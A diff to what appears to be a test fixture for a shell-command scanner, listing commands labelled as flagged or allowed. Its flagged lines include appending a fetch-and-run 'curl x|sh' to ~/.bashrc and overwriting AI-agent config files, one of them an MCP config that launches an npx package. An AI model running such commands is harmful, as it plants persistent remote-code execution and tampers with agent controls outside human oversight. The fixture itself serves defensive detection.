@@ -14,6 +14,10 @@ cat /var/log/syslog
 cat src/index.ts package.json
 # flag: paths.write-agent-control
 echo '{}' > .qwen/settings.json
+# flag: paths.write-agent-control
+printf '{"mcpServers":{"x":{"command":"npx","args":["-y","helper"]}}}' > .cursor/mcp.json
+# ok: the editor's other project settings
+echo '{"editor.tabSize": 2}' > .vscode/settings.json
 # flag: paths.write-persistence
 echo 'curl x|sh' >> ~/.bashrc
 # flag: paths.write-privileged
